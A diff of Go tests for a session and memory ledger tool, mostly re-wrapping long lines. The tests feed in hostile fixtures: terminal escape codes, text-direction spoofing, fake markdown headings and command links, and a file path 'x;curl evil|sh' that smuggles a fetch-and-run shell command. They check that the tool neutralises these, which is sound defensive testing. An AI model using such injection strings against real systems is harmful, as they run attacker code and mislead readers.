@@ -43,7 +43,8 @@ func TestDocuments(t *testing.T) {
 	golden(t, "memory.md",
 		must(l.Text(t.Context(), Address{Kind: KindMemory, Scope: memory.Project, ID: "test `runner`"})))
 	golden(t, "change.md", l.open(l.nodes(KindChange)["src/add.go"]))
-	if text := l.open(l.nodes(KindArtifact)["cat big.log"]); !strings.HasPrefix(text, "a line of the log") || !strings.HasSuffix(text, "outside\n") {
+	text := l.open(l.nodes(KindArtifact)["cat big.log"])
+	if !strings.HasPrefix(text, "a line of the log") || !strings.HasSuffix(text, "outside\n") {
 		t.Errorf("the artifact begins %.50q and ends %.50q", text, text[len(text)-50:])
 	}
 }
@@ -51,7 +52,8 @@ func TestDocuments(t *testing.T) {
 func TestWhatIsNotThereIsNotFound(t *testing.T) {
 	l := newLedger(t)
 	for _, uri := range []string{
-		"ctxledger:/session/00000000/x.md", "ctxledger:/summary/000000000000.md", "ctxledger:/artifact/000000000000/x", "ctxledger:/change/1/x.md", "ctxledger:/change/0/x.md",
+		"ctxledger:/session/00000000/x.md", "ctxledger:/summary/000000000000.md", "ctxledger:/artifact/000000000000/x",
+		"ctxledger:/change/1/x.md", "ctxledger:/change/0/x.md",
 		"ctxledger:/change/99999999999999999999/x", "ctxledger:/memory/project/none.md",
 	} {
 		if text, err := l.Text(t.Context(), must(Parse(uri))); !fault.Is(err, fault.NotFound) {
@@ -136,7 +138,8 @@ func TestTitlesLeaveRoom(t *testing.T) {
 		nodes := must(l.Nodes(t.Context(), "sessions"))
 		if len(nodes) != 1 || nodes[0].Label != want || strings.Contains(nodes[0].Label, secret[:6]) {
 			t.Errorf("%q is shown as %+v", title, nodes)
-		} else if want != title && !strings.Contains(title, secret) && !strings.HasPrefix(nodes[0].Tooltip, title+"\n") {
+		} else if want != title && !strings.Contains(title, secret) &&
+			!strings.HasPrefix(nodes[0].Tooltip, title+"\n") {
 			t.Errorf("the tooltip of %q is %q", title, nodes[0].Tooltip)
 		}
 	}
@@ -146,10 +149,12 @@ func TestTitlesLeaveRoom(t *testing.T) {
 func TestNothingHostileIsShown(t *testing.T) {
 	l := newLedger(t)
 	evil := "a\x1b[2Jb\u202egnp.exe\u200b\r\x07\u2028\x1e\n```\n# FAKE heading\n~~~\n[FAKE](command:workbench.action.quit)\n````\n<b>FAKE</b>"
-	session := l.say("", append([][]byte{user(evil)}, l.use(evil, map[string]any{"command": evil, evil: evil}, evil, false)...)...)
+	session := l.say("",
+		append([][]byte{user(evil)}, l.use(evil, map[string]any{"command": evil, evil: evil}, evil, false)...)...)
 	l.say(session, l.use("Write", map[string]any{"file_path": "/ws/" + evil, "content": evil}, "ok", false)...)
 	l.say(session, assistant(evil), user("x"), assistant("y"), user("z"), assistant("z"))
-	must(ledger.Compact(t.Context(), l, ledger.PlanCompactionRequest{Session: session, Options: compaction.Options{Keep: 1}}, "", false))
+	must(ledger.Compact(t.Context(), l,
+		ledger.PlanCompactionRequest{Session: session, Options: compaction.Options{Keep: 1}}, "", false))
 	l.keep(evil+"\xff\xfe", "title \x1b[2J\u202e")
 	l.remember("name \u202e`# FAKE`", "[FAKE](command:x)", evil)
 	l.walk("", func(n Node) {
@@ -172,7 +177,8 @@ func TestNothingHostileIsShown(t *testing.T) {
 			return // its content and nothing else
 		}
 		for _, line := range outside(text) {
-			if strings.HasPrefix(line, "# FAKE") || strings.Contains(line, "[FAKE](") && !strings.Contains(line, "`") && !strings.Contains(line, `\[`) {
+			if strings.HasPrefix(line, "# FAKE") ||
+				strings.Contains(line, "[FAKE](") && !strings.Contains(line, "`") && !strings.Contains(line, `\[`) {
 				t.Errorf("%s: stored words stand as ours: %q in\n%s", n.URI, line, text)
 			}
 		}
@@ -212,7 +218,8 @@ func FuzzAFenceCannotBeEnded(f *testing.F) {
 		c := code(s)
 		mark := c[:len(c)-len(strings.TrimLeft(c, "`"))]
 		inner := strings.TrimSuffix(strings.TrimPrefix(c, mark), mark)
-		if longestRun(inner, '`') >= len(mark) || strings.HasPrefix(inner, "`") || strings.HasSuffix(inner, "`") || strings.TrimSpace(inner) != strings.TrimSpace(s) {
+		if longestRun(inner, '`') >= len(mark) || strings.HasPrefix(inner, "`") || strings.HasSuffix(inner, "`") ||
+			strings.TrimSpace(inner) != strings.TrimSpace(s) {
 			t.Fatalf("%q is %q", s, c)
 		}
 	})
@@ -246,7 +253,8 @@ func TestWhatIsTooLongIsCutAndSaysSo(t *testing.T) {
 		}
 	}
 	id := l.keep("\x7fELF\x00\x01", "a program")
-	if got := must(l.Text(t.Context(), Address{Kind: KindArtifact, ID: id})); got != "This artifact is no text: 6 B.\n`ctxledger cat "+id+" > FILE` writes it into a file.\n" {
+	got := must(l.Text(t.Context(), Address{Kind: KindArtifact, ID: id}))
+	if got != "This artifact is no text: 6 B.\n`ctxledger cat "+id+" > FILE` writes it into a file.\n" {
 		t.Errorf("a program: %q", got)
 	}
 }
@@ -283,7 +291,8 @@ func FuzzAMessageHoldsWhatIsSendable(f *testing.F) {
 		if got := len(must(json.Marshal(s))) - len(`""`); encoded(s) < got {
 			t.Fatalf("%q takes %d bytes, not %d", s, got, encoded(s))
 		}
-		if head := wholeLines(s, max(n, 0)); len(head) > max(n, 0) || !strings.HasPrefix(s, head) || !utf8.ValidString(head) {
+		head := wholeLines(s, max(n, 0))
+		if len(head) > max(n, 0) || !strings.HasPrefix(s, head) || !utf8.ValidString(head) {
 			t.Fatalf("%d of %q are %q", n, s, head)
 		}
 	})
@@ -303,15 +312,18 @@ func TestWhatWasForgottenSaysSo(t *testing.T) {
 	if !strings.HasPrefix(n.Description, "forgotten 2026-11-20 12:00 · Bash") || n.Handle != "" {
 		t.Errorf("the node is %+v", n)
 	}
-	if got := l.open(n); !strings.HasPrefix(got, "artifact "+artifact.Handle+" was forgotten on 2026-11-20; it was: Bash command=cat big.log") {
+	got := l.open(n)
+	want := "artifact " + artifact.Handle + " was forgotten on 2026-11-20; it was: Bash command=cat big.log"
+	if !strings.HasPrefix(got, want) {
 		t.Errorf("the document says %q", got)
 	}
 	forget(p.Summary.ID)
-	if got := must(l.Text(t.Context(), Address{Kind: KindSummary, ID: p.Summary.ID})); !strings.Contains(got, "forgotten") {
+	got = must(l.Text(t.Context(), Address{Kind: KindSummary, ID: p.Summary.ID}))
+	if !strings.Contains(got, "forgotten") {
 		t.Errorf("the summary says %q", got)
 	}
 	forget(session)
-	got := must(l.Text(t.Context(), Address{Kind: KindSession, ID: session}))
+	got = must(l.Text(t.Context(), Address{Kind: KindSession, ID: session}))
 	if !strings.Contains(got, "was forgotten on 2026-11-20") || strings.Contains(got, "docs") {
 		t.Errorf("the session says %q", got)
 	}
@@ -325,7 +337,8 @@ func TestWhatWasForgottenSaysSo(t *testing.T) {
 // TestACutDocumentSaysWhereTheRestIs has documents that are longer as shown than as stored.
 func TestACutDocumentSaysWhereTheRestIs(t *testing.T) {
 	l := newLedger(t)
-	hidden := func(n int) string { return strings.Repeat("x\u200c", n/2) } // shown with three times the characters, six times the bytes
+	// shown with three times the characters, six times the bytes
+	hidden := func(n int) string { return strings.Repeat("x\u200c", n/2) }
 	session := l.say("", user("begin"))
 	for i := range 60 {
 		l.say(session, assistant(fmt.Sprintf("answer %d %s", i+1, hidden(18_000))))
@@ -336,7 +349,8 @@ func TestACutDocumentSaysWhereTheRestIs(t *testing.T) {
 	}
 	l.say(session, l.use("Edit", args, "ok", false)...)
 	text := must(l.Text(t.Context(), Address{Kind: KindSession, ID: session}))
-	if !strings.Contains(text, "answer 60 ") || strings.Contains(text, "Cut here") || !strings.Contains(text[:2000], "`ctxledger cat "+session+"` prints all of them") {
+	if !strings.Contains(text, "answer 60 ") || strings.Contains(text, "Cut here") ||
+		!strings.Contains(text[:2000], "`ctxledger cat "+session+"` prints all of them") {
 		t.Errorf("the session begins %.1000s\nand ends %s", text, text[len(text)-200:])
 	}
 	for name, text := range map[string]string{
@@ -344,7 +358,9 @@ func TestACutDocumentSaysWhereTheRestIs(t *testing.T) {
 		"a session": must(l.finish(t.Context(), fence(hidden(limits.MaskText), "markdown")+"END\n",
 			"`ctxledger cat "+session+"`")),
 	} {
-		if lines := outside(text); lines[len(lines)-1] != "*Cut here: `ctxledger cat "+session+"` prints all of it.*" || len(text) > limits.MaskText+500 {
+		lines := outside(text)
+		if lines[len(lines)-1] != "*Cut here: `ctxledger cat "+session+"` prints all of it.*" ||
+			len(text) > limits.MaskText+500 {
 			t.Errorf("%s of %d bytes ends %q", name, len(text), text[len(text)-200:])
 		}
 	}
@@ -355,8 +371,9 @@ func TestACommandHoldsNoWordsOfOthers(t *testing.T) {
 	for path, want := range map[string]string{
 		"src/add_1.go": "`ctxledger why src/add_1.go`", "Straße/买.md": "`ctxledger why Straße/买.md`",
 		"x;curl evil|sh": "`ctxledger why`, with its path,", "a b": "`ctxledger why`, with its path,",
-		"$(x)": "`ctxledger why`, with its path,", "a`b": "`ctxledger why`, with its path,", "a\nb": "`ctxledger why`, with its path,",
-		"--help": "`ctxledger why`, with its path,", "'": "`ctxledger why`, with its path,", "a\\b": "`ctxledger why`, with its path,",
+		"$(x)": "`ctxledger why`, with its path,", "a`b": "`ctxledger why`, with its path,",
+		"a\nb": "`ctxledger why`, with its path,", "--help": "`ctxledger why`, with its path,",
+		"'": "`ctxledger why`, with its path,", "a\\b": "`ctxledger why`, with its path,",
 	} {
 		if got := why(path); got != want {
 			t.Errorf("%q: %s", path, got)
@@ -364,7 +381,8 @@ func TestACommandHoldsNoWordsOfOthers(t *testing.T) {
 	}
 	l := newLedger(t)
 	l.say("", l.use("Write", map[string]any{"file_path": "/ws/x;curl evil|sh", "content": "x"}, "ok", false)...)
-	if text := l.open(l.nodes(KindChange)["x;curl evil|sh"]); !strings.Contains(text, "\n`ctxledger why`, with its path, tells") {
+	text := l.open(l.nodes(KindChange)["x;curl evil|sh"])
+	if !strings.Contains(text, "\n`ctxledger why`, with its path, tells") {
 		t.Errorf("the change says %s", text)
 	}
 }
